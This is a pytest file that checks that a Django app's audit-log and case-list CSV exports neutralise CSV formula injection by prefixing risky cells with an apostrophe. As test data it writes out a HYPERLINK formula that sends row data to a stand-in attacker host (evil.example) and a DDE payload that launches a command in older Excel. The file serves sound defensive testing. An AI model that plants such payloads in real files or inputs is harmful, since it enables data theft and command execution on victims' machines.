"""CSV exports open in Excel, which runs a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula (CSV injection: ``=HYPERLINK(...)`` sends the row to another site
when clicked; older Excel also ran DDE commands). Text somebody else typed reaches the
exports: the user name an anonymous visitor typed at the log-in lands in the audit
log's actor column, and a person's name in the case list. Such a cell is written with a
leading apostrophe, which Excel shows as text and never runs; numbers stay numbers.
Over real HTTP against a live server."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from henvis.apps.accounts.tests.http import HttpClient
from henvis.apps.cases.tests.factories import make_case
from henvis.conftest import TEST_PASSWORD

pytestmark = pytest.mark.django_db(transaction=True)

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Åpne")'


def _rows(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))


def test_a_user_name_typed_at_the_log_in_is_not_a_formula_in_the_audit_export(
        live_server: Any, make_user: Any) -> None:
    make_user("revisor", roles=["auditor"], org="kom")
    visitor = HttpClient(live_server.url)
    assert visitor.login(FORMULA, "not-the-password") == 200  # refused, and audited
    auditor = HttpClient(live_server.url)
    assert auditor.login("revisor", TEST_PASSWORD) == 302
    status, headers, body = auditor.get("/audit/?export=csv")
    assert status == 200 and headers["Content-Type"].startswith("text/csv")
    cells = [cell for row in _rows(body)[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
    # the row numbers and times stay as they were
    assert all(row[0].isdigit() for row in _rows(body)[1:])


def test_a_persons_name_is_not_a_formula_in_the_case_list_export(live_server: Any, make_user: Any) -> None:
    rosa = make_user("rosa", roles=["coordinator"], org="rosa")
    make_case(rosa, given="+cmd|' /C calc'!A0", family="-2+3")
    make_case(rosa, given="@SUM(1+1)", family="Popescu")
    client = HttpClient(live_server.url)
    assert client.login("rosa", TEST_PASSWORD) == 302
    status, _, body = client.get("/cases/?export=csv")
    assert status == 200
    people = sorted(row[1] for row in _rows(body)[1:])
    assert people == ["'+cmd|' /C calc'!A0 -2+3", "'@SUM(1+1) Popescu"]
